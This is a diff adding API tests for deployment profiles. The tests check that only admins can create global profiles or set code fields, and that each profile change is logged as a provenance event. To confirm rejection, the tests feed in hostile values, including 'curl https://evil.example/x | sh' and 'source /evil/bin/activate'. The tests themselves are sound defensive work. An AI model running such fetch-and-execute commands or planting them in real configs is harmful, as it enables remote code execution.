@@ -5,13 +5,16 @@ import type { Db } from '../../adapters/postgres/db.js';
 import { resolveProfile } from '../../core/usecases/profiles/resolveProfile.js';
 import { TYPES } from '../../hosts/shared/composition.js';
 import { startTestApi, type TestApi } from '../support/api.js';
+import { manualWallabyYaml } from '../support/project.js';
 
 let api: TestApi;
 let op: string;
+let admin: string;
 let viewer: string;
 test.before(async () => {
   api = await startTestApi();
   op = await api.tokenFor('op', 'operator');
+  admin = await api.tokenFor('boss', 'admin');
   viewer = await api.tokenFor('view', 'viewer');
 });
 test.after.always(async () => {
@@ -38,7 +41,8 @@ const batch = (name: string, extra: Record<string, unknown> = {}) => ({
   },
   ...extra,
 });
-const post = (body: unknown, token = op) => api.call('POST', '/deployment-profiles', { body, token });
+// Global profiles are an admin's to make: most tests here write as one; the role rules have their own.
+const post = (body: unknown, token = admin) => api.call('POST', '/deployment-profiles', { body, token });
 const issuesOf = (b: unknown) =>
   (b as { error: { details: { issues: { path: string; message: string }[] } } }).error.details.issues;
 
@@ -193,4 +197,95 @@ test('an execution resolves its profile by id, by name, by module default, then 
   t.is(await pick({ projectModule: 'res_y', name: 'res-named' }), 'validation_failed');
   t.is(await pick({ projectModule: 'res_x', id: named.id }), named.id);
   t.is(await pick({ projectModule: 'res_y', id: named.id }), 'validation_failed', "another module's profile");
+});
+
+test('only an admin makes global profiles or sets code fields; an operator edits data fields', async (t) => {
+  const forbidden = (r: { status: number; body: unknown }, fields: string[]) => {
+    t.is(r.status, 403);
+    t.deepEqual(
+      (r.body as { error: { details: { admin_only: string[] } } }).error.details.admin_only,
+      fields,
+    );
+  };
+  forbidden(await post(rest('op-global'), op), ['a global profile']);
+  forbidden(
+    await post(
+      batch('op-code', {
+        deployment: { ...batch('x').deployment, venv: 'source /evil/bin/activate', exec_prefix: 'bash -c' },
+      }),
+      op,
+    ),
+    ['deployment.venv', 'deployment.exec_prefix'],
+  );
+  // Data fields and the defaults are an operator's.
+  const mine = await post(batch('op-data'), op);
+  t.is(mine.status, 201, mine.text);
+  // An admin's profile with code keeps its code when an operator edits its data...
+  const withCode = batch('admin-code', {
+    deployment: { ...batch('x').deployment, modules: 'module load python/3.11' },
+  });
+  const made = await post(withCode, admin);
+  t.is(made.status, 201, made.text);
+  const id = (made.body as { id: string }).id;
+  const edited = await api.call('PUT', `/deployment-profiles/${id}`, {
+    token: op,
+    body: { ...withCode, deployment: { ...withCode.deployment, account: 'pawsey0999' } },
+  });
+  t.is(edited.status, 200, edited.text);
+  // ...but cannot change it, nor remove it.
+  for (const modules of ['curl https://evil.example/x | sh', undefined]) {
+    const d = { ...withCode.deployment, modules };
+    if (modules === undefined) delete (d as Record<string, unknown>)['modules'];
+    forbidden(
+      await api.call('PUT', `/deployment-profiles/${id}`, {
+        token: op,
+        body: { ...withCode, deployment: d },
+      }),
+      ['deployment.modules'],
+    );
+  }
+  const global = (await post(rest('admin-global'), admin)).body as { id: string };
+  forbidden(await api.call('DELETE', `/deployment-profiles/${global.id}`, { token: op }), [
+    'a global profile',
+  ]);
+  t.is((await api.call('DELETE', `/deployment-profiles/${global.id}`, { token: admin })).status, 200);
+});
+
+test('every profile change is a provenance event: who, which fields, in the profile and project streams', async (t) => {
+  await api.uploadConfig(manualWallabyYaml, admin);
+  const made = await post(batch('evented'), op);
+  t.is(made.status, 201, made.text);
+  const p = made.body as { id: string };
+  const body = batch('evented', { description: 'now described' });
+  t.is((await api.call('PUT', `/deployment-profiles/${p.id}`, { token: op, body })).status, 200);
+  t.is((await api.call('DELETE', `/deployment-profiles/${p.id}`, { token: op })).status, 200);
+  const events = await api.call('GET', `/deployment-profiles/${p.id}/events`, { token: viewer });
+  t.is(events.status, 200, events.text);
+  const items = (
+    events.body as { items: { kind: string; actor: string; payload: Record<string, unknown> }[] }
+  ).items;
+  t.deepEqual(
+    items.map((e) => [e.kind, e.actor, e.payload['version']]),
+    [
+      ['profile.created', 'op', 1],
+      ['profile.replaced', 'op', 2],
+      ['profile.deleted', 'op', 2],
+    ],
+  );
+  t.deepEqual(items[1]!.payload['changed'], ['description']);
+  const project = await api.call('GET', '/projects/wallaby_hires/events', { token: viewer });
+  t.deepEqual(
+    (project.body as { items: { kind: string; subject_id: string }[] }).items
+      .filter((e) => e.subject_id === p.id)
+      .map((e) => e.kind),
+    ['profile.created', 'profile.replaced', 'profile.deleted'],
+  );
+  t.is(
+    (
+      await api.call('GET', '/deployment-profiles/00000000-0000-4000-8000-000000000000/events', {
+        token: viewer,
+      })
+    ).status,
+    404,
+  );
 });
